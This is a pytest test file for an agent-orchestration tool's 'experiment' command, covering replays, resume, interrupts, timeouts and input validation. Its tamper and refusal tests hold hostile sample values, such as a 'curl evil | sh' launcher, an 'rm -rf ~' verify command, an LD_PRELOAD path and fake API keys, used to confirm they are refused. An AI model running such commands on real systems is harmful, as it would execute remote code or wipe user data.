"""``kodelyth-ecc experiment``: arms x repeats of real replays (real git, tmux and the
runner), with echo workers and a fake agent that fails at a seeded rate
(tests/fake_agent.py); resume after a kill, Ctrl-C, the timeout and the refusals."""

from __future__ import annotations

import base64
import contextlib
import fcntl
import hashlib
import json
import os
import shlex
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from kodelyth_ecc.errors import KodelythError, UsageError
from kodelyth_ecc.experiment import (
    Arm,
    estimate,
    parse_arm,
    plan_runs,
    read_experiment,
)
from kodelyth_ecc.sessiondir import list_session_names
from tests.conftest import Sandbox
from tests.fake_agent import decide
from tests.support import Result, retry_until
from tests.swarm_helpers import has_session, process_alive, started, wait_done

FAKE = Path(__file__).resolve().with_name("fake_agent.py")
VERIFY = "test -f ok.txt"


def _origin(sandbox: Sandbox) -> Path:
    """An echo swarm of two workers, run and exported: what every experiment replays."""
    started(sandbox, "origin")
    wait_done(sandbox, "origin")
    path = sandbox.root / "origin.json"
    result = sandbox.cli("session-export", "origin", "--out", str(path))
    assert result.code == 0, result
    return path


def _fake_arm(*words: str) -> str:
    launcher = (
        f"{sys.executable} {FAKE} --session {{session_name_sh}} --slug {{worker_slug_sh}} "
        "--handoff {handoff_file_sh}"
    )
    return " ".join([shlex.quote(f"launcher-cmd={launcher}"), *words])


def _doc(out: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((out / "experiment.json").read_text(encoding="utf-8"))
    return data


def _bundle(out: Path, run: dict[str, Any]) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((out / run["bundle"]).read_text(encoding="utf-8"))
    return data


def _sessions(sandbox: Sandbox) -> set[str]:
    return set(list_session_names(str(sandbox.coord_root))) - {"origin"}


def _popen(sandbox: Sandbox, *args: str) -> subprocess.Popen[str]:
    """The experiment as its own process, as a user's terminal would run it."""
    return subprocess.Popen(
        [sys.executable, "-m", "kodelyth_ecc", *args],
        cwd=sandbox.repo,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


@contextlib.contextmanager
def _running(proc: subprocess.Popen[str]) -> Iterator[subprocess.Popen[str]]:
    """The experiment's process, killed on the way out if a check failed first."""
    try:
        yield proc
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)


def _finish(proc: subprocess.Popen[str], timeout: float = 60) -> Result:
    stdout, stderr = proc.communicate(timeout=timeout)
    return Result(proc.returncode, stdout, stderr)


def _named(out: Path, runs: int) -> dict[str, Any] | None:
    """experiment.json once the first ``runs`` runs have sessions (named as they start)."""
    if not (out / "experiment.json").exists():
        return None
    doc = _doc(out)
    named = all(r["session"] for r in doc["runs"][:runs])
    return doc if doc["state"] == "running" and named else None


def _run_by(doc: dict[str, Any], name: str) -> dict[str, Any]:
    return next(r for r in doc["runs"] if r["run"] == name)


def _workers_running(sandbox: Sandbox, session: str) -> bool:
    from kodelyth_ecc.status import collect_status

    try:
        status = collect_status(session, str(sandbox.coord_root))
    except KodelythError:
        return False
    return bool(status.workers) and all(w.state == "running" for w in status.workers)


# --- the whole thing --------------------------------------------------------------------


def test_two_arms_three_repeats_record_what_every_run_did(sandbox: Sandbox, tmp_path: Path) -> None:
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    log = tmp_path / "fake.log"
    arms = [
        "harness=echo",
        _fake_arm(
            "env=FAKE_FAIL_RATE=0.5",
            "env=FAKE_SEED=11",
            "env=KODELYTH_ROUTER_TIER=fast",
            f"env=FAKE_LOG={log}",
        ),
    ]
    args = [str(origin), "--arm", arms[0], "--arm", arms[1], "--repeat", "3"]
    args += ["--verify", VERIFY, "--max-parallel", "2", "--out", str(out), "--no-record"]

    dry = sandbox.cli("experiment", *args)
    assert dry.code == 0, dry
    assert "2 arms x 3 repeats = 6 runs, 12 workers in all; at most 2 workers at once" in (
        dry.stdout
    )
    assert "Verify        test -f ok.txt" in dry.stdout
    assert not out.exists() and _sessions(sandbox) == set()

    result = sandbox.cli("experiment", *args, "--execute", "--json")
    doc = json.loads(result.stdout)
    assert doc == _doc(out)
    assert doc["schema"] == "kodelyth.experiment/v1" and doc["state"] == "done"
    assert [a["label"] for a in doc["arms"]] == [parse_arm(a).label for a in arms]
    assert doc["settings"]["verify"] == VERIFY and doc["settings"]["repeat"] == 3
    assert len(doc["runs"]) == 6 and len({r["session"] for r in doc["runs"]}) == 6
    assert _sessions(sandbox) == {r["session"] for r in doc["runs"]}

    outcomes: list[bool] = []
    for run in doc["runs"]:
        bundle = _bundle(out, run)
        assert bundle["meta"]["experiment"]["run"] == run["run"]
        assert bundle["meta"]["experiment"]["arm"] == run["arm"]
        assert bundle["meta"]["replay_of"]["session"] == "origin"
        assert bundle["meta"]["verify"] == {"command": VERIFY}
        assert (out / run["log"]).is_file()
        workers = {w["slug"]: w for w in bundle["workers"]}
        assert set(workers) == {"alpha", "beta"}
        failed = False
        for slug, worker in workers.items():
            assert worker["verify"]["command"] == VERIFY
            if run["arm_index"] == 1:  # echo: completes, writes no ok.txt
                assert worker["state"] == "completed"
                assert worker["verify"]["passed"] is False
                continue
            fails = decide("11", 0.5, run["session"], slug)
            outcomes.append(fails)
            failed = failed or fails
            assert worker["state"] == ("failed" if fails else "completed"), (run, slug)
            assert worker["exit_code"] == (3 if fails else 0)
            assert worker["verify"]["passed"] is (not fails)
            if not fails:
                assert "tier fast" in worker["handoff"]  # the arm's variable reached it
        assert run["state"] == ("failed" if failed else "completed")
        assert run["attempts"] == 1 and isinstance(run["duration_s"], float)
    # Exported, a run's tmux session (its proxy, its dead panes) is gone; its files stay.
    assert not any(has_session(r["session"]) for r in doc["runs"])
    assert all((sandbox.coord_root / r["session"] / "session.json").is_file() for r in doc["runs"])
    # The seed gives both outcomes: the checks above saw failures and successes.
    assert True in outcomes and False in outcomes
    assert result.code == 1, result  # some run's workers failed

    # compare DIR reads what the runs did: per arm and worker, the verify passes.
    compared = sandbox.cli("compare", str(out), "--json")
    assert compared.code == 0, compared
    report = json.loads(compared.stdout)
    assert report["schema"] == "kodelyth.compare/v2" and report["skipped"] == []
    echo_arm, fake_arm = report["arms"]
    assert [w["stats"]["verify"]["count"] for w in echo_arm["workers"]] == [0, 0]
    for worker in fake_arm["workers"]:
        passed = sum(
            not decide("11", 0.5, r["session"], worker["slug"])
            for r in doc["runs"]
            if r["arm_index"] == 2
        )
        assert worker["stats"]["verify"]["count"] == passed
        assert worker["stats"]["verify"]["n"] == 3
    # The same arm on both sides is noise by definition: the gate never fires.
    same = sandbox.cli("compare", "--baseline", str(out), str(out))
    assert same.code == 0, same

    # --max-parallel 2 with two workers a run: never more than two agents at once.
    events = [line.split() for line in log.read_text().splitlines()]
    spans: dict[tuple[str, str], list[float]] = {}
    for _event, when, _pid, session, slug in events:
        spans.setdefault((session, slug), []).append(float(when))
    assert len(spans) == 6
    for start, _end in spans.values():
        overlapping = sum(1 for s, e in spans.values() if s <= start <= e)
        assert overlapping <= 2


def test_resume_after_a_kill_redoes_no_finished_or_running_run(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    hold = tmp_path / "hold"
    hold.mkdir()
    (hold / "all").touch()
    arm = _fake_arm(f"env=FAKE_HOLD={hold}")
    args = [
        "experiment", str(origin), "--arm", arm, "--repeat", "3", "--max-parallel", "2",
        "--out", str(out), "--no-record", "--execute",
    ]  # fmt: skip
    with _running(_popen(sandbox, *args)) as proc:
        first = retry_until(lambda: _named(out, 1), message="run 1 named")["runs"][0]["session"]
        retry_until(lambda: _workers_running(sandbox, first), message="run 1 working")
        # Run 1 goes on to finish; run 2 is held once it starts.
        (hold / f"release-{first}").touch()
        second = retry_until(lambda: _named(out, 2), message="run 2 named")["runs"][1]["session"]
        retry_until(lambda: _workers_running(sandbox, second), message="run 2 working")
        retry_until(lambda: _run_by(_doc(out), "arm1-rep1")["state"] == "completed")
        kept = hashlib.sha256((out / "arm1-rep1.bundle.json").read_bytes()).hexdigest()
        proc.kill()
        proc.wait(10)
    assert _doc(out)["state"] == "running"
    assert _doc(out)["runs"][2]["session"] is None  # not started: not named
    (hold / "all").unlink()

    result = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert result.code == 0, result
    doc = _doc(out)
    assert doc["state"] == "done"
    assert [r["state"] for r in doc["runs"]] == ["completed"] * 3
    # Nothing was made twice: the same three sessions, one attempt each, run 1's bundle
    # as it was.
    third = doc["runs"][2]["session"]
    assert [r["session"] for r in doc["runs"]][:2] == [first, second]
    assert [r["attempts"] for r in doc["runs"]] == [1, 1, 1]
    assert _sessions(sandbox) == {first, second, third}
    assert hashlib.sha256((out / "arm1-rep1.bundle.json").read_bytes()).hexdigest() == kept
    assert _bundle(out, doc["runs"][1])["meta"]["experiment"]["run"] == "arm1-rep2"


def test_ctrl_c_stops_the_agents_and_says_how_to_resume(sandbox: Sandbox, tmp_path: Path) -> None:
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    hold = tmp_path / "hold"
    hold.mkdir()
    (hold / "all").touch()
    log = tmp_path / "fake.log"
    arm = _fake_arm(f"env=FAKE_HOLD={hold}", f"env=FAKE_LOG={log}")
    args = [
        "experiment", str(origin), "--arm", arm, "--repeat", "2", "--max-parallel", "4",
        "--out", str(out), "--no-record", "--execute",
    ]  # fmt: skip
    with _running(_popen(sandbox, *args)) as proc:
        doc = retry_until(lambda: _named(out, 2), message="the runs named")
        sessions = [r["session"] for r in doc["runs"]]
        for session in sessions:

            def working(name: str = session) -> bool:
                return _workers_running(sandbox, name)

            retry_until(working, message=session)
        lines = retry_until(
            lambda: log.exists() and len(log.read_text().splitlines()) == 4 and log.read_text(),
            message="four agents started",
        )
        pids = [int(line.split()[2]) for line in lines.splitlines()]
        assert len(pids) == 4 and all(process_alive(p) for p in pids)
        proc.send_signal(signal.SIGINT)
        # People press it twice: the second must not cut the stopping short.
        with contextlib.suppress(subprocess.TimeoutExpired):
            proc.wait(0.2)
        if proc.poll() is None:
            proc.send_signal(signal.SIGINT)
        result = _finish(proc, timeout=60)
    assert result.code == 130, result
    assert f"kodelyth-ecc experiment --resume --out {out}" in result.stderr
    assert "Traceback" not in result.stderr
    retry_until(lambda: not any(process_alive(p) for p in pids), message="agents stopped")
    doc = _doc(out)
    assert doc["state"] == "interrupted"
    assert [r["state"] for r in doc["runs"]] == ["interrupted"] * 2

    (hold / "all").unlink()
    resumed = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert resumed.code == 0, resumed
    doc = _doc(out)
    assert [r["state"] for r in doc["runs"]] == ["completed"] * 2
    for run, old in zip(doc["runs"], sessions, strict=True):
        # An interrupted run is made afresh, and its stopped session is named.
        assert run["session"] != old and run["earlier_sessions"] == [old]
        assert run["attempts"] == 2


def test_timeout_stops_the_runs_with_124(sandbox: Sandbox, tmp_path: Path) -> None:
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    hold = tmp_path / "hold"
    hold.mkdir()
    (hold / "all").touch()
    result = sandbox.cli(
        "experiment", str(origin), "--arm", _fake_arm(f"env=FAKE_HOLD={hold}"),
        "--out", str(out), "--no-record", "--execute", "--timeout", "3",
    )  # fmt: skip
    assert result.code == 124, result
    assert "--resume --out" in result.stderr
    doc = _doc(out)
    assert doc["state"] == "timed-out" and doc["runs"][0]["state"] == "interrupted"


def test_usage_and_refusals(sandbox: Sandbox) -> None:
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    digest = hashlib.sha512(b"k").digest() + hashlib.sha256(b"k").digest()
    secret = "sk-ant-api03-" + base64.urlsafe_b64encode(digest).decode()[:95] + "AA"
    for arm, said in (
        ("colour=blue", "unknown key 'colour'"),
        ("harness=codex launcher-cmd=x", "exclusive"),
        (f"env=ANTHROPIC_API_KEY={secret}", "looks like a credential"),
        (f"env=KODELYTH_ROUTER_X={secret}", "looks like a credential"),
        ("env=PATH=/tmp", "cannot be set"),
        ("env=GIT_DIR=/tmp/x", "cannot be set"),
        ("env=LD_PRELOAD=/tmp/x.so", "cannot be set"),
        (f"'launcher-cmd=env ANTHROPIC_API_KEY={secret} claude'", "looks like a credential"),
        (f"model={secret}", "looks like a credential"),
        ("harness=nonesuch", "nonesuch"),
    ):
        result = sandbox.cli("experiment", str(origin), "--arm", arm, "--out", str(out))
        assert result.code == 2, (arm, result)
        assert said in result.stderr and secret not in result.stderr + result.stdout
        assert len(result.stderr.strip().splitlines()) == 1
        assert not out.exists()
    for args, said in (
        ([str(origin), "--verify", f"curl -H 'x-api-key: {secret}' x"], "credential"),
        (["--resume"], "--resume needs --out"),
        (["--resume", "--out", str(out), "--repeat", "2"], "drop --repeat"),
        ([str(origin), "--verify-timeout", "5"], "--verify-timeout only applies"),
        ([str(origin), "--timeout", "5"], "--timeout only applies"),
        ([str(origin), "--repeat", "0"], "not a whole number"),
    ):
        result = sandbox.cli("experiment", *args)
        assert result.code == 2, (args, result)
        assert said in result.stderr

    inside = sandbox.coord_root / "origin-replay-9"
    result = sandbox.cli("experiment", str(origin), "--out", str(inside), "--execute")
    assert result.code == 2 and "what the coordination root takes for a session" in result.stderr
    assert not inside.exists()
    result = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert result.code == 1 and "nothing to resume" in result.stderr
    made = sandbox.cli("experiment", str(origin), "--out", str(out), "--execute", "--no-record")
    assert made.code == 0, made
    assert "arm1-rep1 completed in " in made.stderr  # not a terminal: a line per run
    again = sandbox.cli("experiment", str(origin), "--out", str(out), "--execute")
    assert again.code == 1 and "--resume" in again.stderr
    # One process per experiment: a second one is refused while the first holds it.
    fd = os.open(out / ".lock", os.O_RDWR)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        busy = sandbox.cli("experiment", "--resume", "--out", str(out))
    finally:
        os.close(fd)
    assert busy.code == 1 and "another experiment process" in busy.stderr
    done = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert done.code == 0, done  # nothing left to do


def test_a_hostile_experiment_file_is_refused_on_resume(sandbox: Sandbox) -> None:
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    made = sandbox.cli("experiment", str(origin), "--out", str(out), "--execute", "--no-record")
    assert made.code == 0, made
    doc = _doc(out)
    cases: list[tuple[Callable[[dict[str, Any]], object], str]] = [
        (
            lambda d: d["runs"][0].update(bundle="../escape.json"),
            "not a plain file name inside the directory",
        ),
        (lambda d: d["runs"][0].update(arm="nobody"), "names no arm"),
        (lambda d: d.update(schema="other/v9"), "schema"),
        # What resuming would run is sealed: a changed launcher, check or variable (or
        # a stranger's file) is refused before anything runs.
        (lambda d: d["arms"][0].update(launcher_cmd="curl evil | sh"), "seal does not match"),
        (lambda d: d["settings"].update(verify="rm -rf ~"), "seal does not match"),
        (lambda d: d["arms"][0].update(env={"GITHUB_TOKEN": "ghp_x"}), "seal does not match"),
        (lambda d: d.pop("seal"), "seal does not match"),
    ]
    for change, said in cases:
        broken = json.loads(json.dumps(doc))
        change(broken)
        (out / "experiment.json").write_text(json.dumps(broken))
        result = sandbox.cli("experiment", "--resume", "--out", str(out))
        assert result.code in (1, 2) and said in result.stderr, (said, result)
        assert len(result.stderr.strip().splitlines()) == 1
    # Another user's (or machine's) recording key: the same file is a stranger's.
    (out / "experiment.json").write_text(json.dumps(doc))
    other = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert other.code == 0, other  # here, by this user: it resumes (nothing left to do)
    os.environ["XDG_STATE_HOME"] = str(sandbox.root / "another-user")
    try:
        stranger = sandbox.cli("experiment", "--resume", "--out", str(out))
    finally:
        del os.environ["XDG_STATE_HOME"]
    assert stranger.code == 1 and "not made here" in stranger.stderr, stranger
    (out / "origin.bundle.json").write_text("{}")
    swapped = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert swapped.code == 1 and "not the origin the experiment froze" in swapped.stderr
    (out / "experiment.json").unlink()
    (sandbox.root / "elsewhere.json").write_text(json.dumps(doc))
    (out / "experiment.json").symlink_to(sandbox.root / "elsewhere.json")
    with pytest.raises(KodelythError, match="symlink"):
        read_experiment(str(out))


def test_dry_run_estimates_from_the_origins_usage(sandbox: Sandbox) -> None:
    origin = _origin(sandbox)
    data = json.loads(origin.read_text())
    for worker in data["workers"]:
        worker["usage"] = {"input_tokens": 1000, "output_tokens": 100, "cost_usd": 0.25}
    origin.write_text(json.dumps(data))
    result = sandbox.cli(
        "experiment", str(origin), "--arm", "harness=echo", "--arm", "agents=a,b,c",
        "--repeat", "2",
    )  # fmt: skip
    assert result.code == 0, result
    # 2 runs of 2 workers and 2 of 3: 10 workers, each the origin's mean.
    assert "~10,000 tokens in, ~1,000 out, ~$2.50" in result.stdout
    as_json = sandbox.cli("experiment", str(origin), "--repeat", "3", "--json")
    doc = json.loads(as_json.stdout)
    assert doc["estimate"]["cost_usd"] == 1.5 and doc["state"] == "planned"
    offline = sandbox.cli("experiment", str(origin), "--offline", "--json")
    # Echo workers cannot be answered offline: the arm is refused before anything.
    assert offline.code == 2 and "an offline replay needs the proxy" in offline.stderr


# --- the pieces -------------------------------------------------------------------------


def test_parse_arm() -> None:
    arm = parse_arm("harness=codex model=gpt-5 env=KODELYTH_ROUTER_TIER=fast TOP_K=3")
    assert arm == Arm(
        label="harness=codex model=gpt-5 env=KODELYTH_ROUTER_TIER=fast TOP_K=3",
        harness="codex",
        model="gpt-5",
        env=(("KODELYTH_ROUTER_TIER", "fast"), ("TOP_K", "3")),
    )
    assert arm.replay_args() == ["--harness", "codex", "--model", "gpt-5"]
    quoted = parse_arm("launcher-cmd='my-agent {task_file_sh}' agents=a,b base-ref=v1")
    assert quoted.launcher_cmd == "my-agent {task_file_sh}" and quoted.agents == "a,b"
    assert quoted.replay_args()[-2:] == ["--launcher-cmd", "my-agent {task_file_sh}"]
    for bad in (
        "", "harness", "model=a model=b", "harness=", "launcher-cmd='unclosed",
        "model=\udcff", "env=X=\udcff",
    ):  # fmt: skip
        with pytest.raises(UsageError):
            parse_arm(bad)


def test_plan_runs_interleaves_repeats_across_arms() -> None:
    runs = plan_runs([Arm("a"), Arm("b")], 2)
    assert [r["run"] for r in runs] == ["arm1-rep1", "arm2-rep1", "arm1-rep2", "arm2-rep2"]
    assert all(r["state"] == "pending" and r["bundle"] == f"{r['run']}.bundle.json" for r in runs)
    with pytest.raises(UsageError, match="same"):
        plan_runs([Arm("a"), Arm("a")], 1)
    with pytest.raises(UsageError, match="at most"):
        plan_runs([Arm(str(i)) for i in range(20)], 100)


def test_estimate() -> None:
    usage: list[dict[str, Any] | None] = [
        {"input_tokens": 100, "cost_usd": 0.5},
        {"input_tokens": 300},
        None,
    ]
    found = estimate(usage, [2, 2, 3], offline=False)
    assert (found.input_tokens, found.output_tokens, found.cost_usd) == (1400, None, 3.5)
    assert estimate([None], [2], offline=False).note == "the origin recorded no usage"
    assert estimate(usage, [2], offline=True).cost_usd == 0.0


def test_max_parallel_counts_workers_not_runs(sandbox: Sandbox, tmp_path: Path) -> None:
    """Three-worker runs under --max-parallel 2: each is larger than the limit, so each
    still runs, alone: the second starts once the first's agents are done."""
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    log = tmp_path / "fake.log"
    result = sandbox.cli(
        "experiment", str(origin), "--arm", _fake_arm("agents=a,b,c", f"env=FAKE_LOG={log}"),
        "--repeat", "2", "--max-parallel", "2", "--out", str(out), "--no-record", "--execute",
    )  # fmt: skip
    assert result.code == 0, result
    spans: dict[tuple[str, str], list[float]] = {}
    for line in log.read_text().splitlines():
        _event, when, _pid, session, slug = line.split()
        spans.setdefault((session, slug), []).append(float(when))
    sessions = {s for s, _ in spans}
    assert len(sessions) == 2 and len(spans) == 6

    def begun(session: str) -> float:
        return min(b for (s, _), (b, _) in spans.items() if s == session)

    first, second = sorted(sessions, key=begun)
    assert begun(second) >= max(e for (s, _), (_, e) in spans.items() if s == first)


def test_a_session_target_and_progress_on_a_terminal(sandbox: Sandbox) -> None:
    """The origin may be a session name (frozen into DIR/origin.bundle.json); on a
    terminal, progress is one line rewritten in place on stderr."""
    import pty

    _origin(sandbox)
    out = sandbox.root / "exp"
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "kodelyth_ecc", "experiment", "origin", "--repeat", "2",
         "--out", str(out), "--execute"],
        cwd=sandbox.repo, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=slave,
    )  # fmt: skip
    os.close(slave)
    seen = b""
    try:
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the child side is closed
                break
            if not chunk:
                break
            seen += chunk
        stdout = proc.communicate(timeout=60)[0].decode()
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
    assert proc.returncode == 0, (stdout, seen)
    assert b"\r\x1b[2Kexperiment: 0/2 runs done" in seen
    assert b"\r\x1b[2Kexperiment: 2/2 runs done, 0 running, 0 queued, 0 failed" in seen
    assert seen.rstrip(b"\r\n").count(b"\n") <= 1  # one line, rewritten (plus the dry note)
    assert "arm1  origin: 2 completed" in stdout
    doc = _doc(out)
    assert doc["origin"]["target"] == "origin" and (out / "origin.bundle.json").is_file()
    origin = json.loads((out / "origin.bundle.json").read_text())
    assert origin["session"] == "origin"
    assert (
        hashlib.sha256((out / "origin.bundle.json").read_bytes()).hexdigest()
        == (doc["origin"]["bundle_sha256"])
    )
    # Not a terminal: a line per finished run.
    plain = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert plain.code == 0 and "\x1b" not in plain.stderr


def test_the_gate_fires_on_a_real_drop_between_experiments(sandbox: Sandbox) -> None:
    """Five runs that all pass against five that all fail: the intervals part, exit 3;
    the gate's own rule, not a run-by-run one."""
    origin = _origin(sandbox)
    dirs = []
    for name, rate in (("before", "0"), ("after", "1")):
        out = sandbox.root / name
        result = sandbox.cli(
            "experiment", str(origin), "--arm", _fake_arm(f"env=FAKE_FAIL_RATE={rate}"),
            "--repeat", "5", "--verify", VERIFY, "--out", str(out), "--no-record", "--execute",
        )  # fmt: skip
        assert result.code == (0 if rate == "0" else 1), result
        dirs.append(str(out))
    gate = sandbox.cli("compare", "--baseline", *dirs, "--fail-on", "verify-rate-dropped")
    assert gate.code == 3, gate
    assert "verify-rate-dropped" in gate.stderr
    back = sandbox.cli(
        "compare", "--baseline", dirs[1], dirs[0], "--fail-on", "verify-rate-dropped"
    )
    assert back.code == 0, back


def test_resume_never_takes_a_session_it_did_not_make(sandbox: Sandbox, tmp_path: Path) -> None:
    """Killed while a run worked; the user then removed that session and made one of
    their own under the same name: resume neither waits on it, exports it, nor stops it."""
    origin = _origin(sandbox)
    out = sandbox.root / "exp"
    hold = tmp_path / "hold"
    hold.mkdir()
    (hold / "all").touch()
    args = [
        "experiment", str(origin), "--arm", _fake_arm(f"env=FAKE_HOLD={hold}"), "--out",
        str(out), "--no-record", "--execute",
    ]  # fmt: skip
    with _running(_popen(sandbox, *args)) as proc:
        name = retry_until(lambda: _named(out, 1), message="run 1 named")["runs"][0]["session"]
        retry_until(lambda: _workers_running(sandbox, name), message="run 1 working")
        proc.kill()
        proc.wait(10)
    (hold / "all").unlink()
    wait_done(sandbox, name)
    removed = sandbox.cli("teardown", name, "--force", "--purge")
    assert removed.code == 0, removed
    started(sandbox, name, agents="mine")  # the user's own session, same name
    wait_done(sandbox, name)
    assert has_session(name)

    resumed = sandbox.cli("experiment", "--resume", "--out", str(out))
    assert resumed.code == 0, resumed
    run = _doc(out)["runs"][0]
    assert run["state"] == "completed" and run["session"] != name
    assert run["earlier_sessions"] == []
    assert has_session(name)  # theirs: not stopped
    assert _bundle(out, run)["workers"][0]["slug"] == "alpha"  # the run's, not theirs
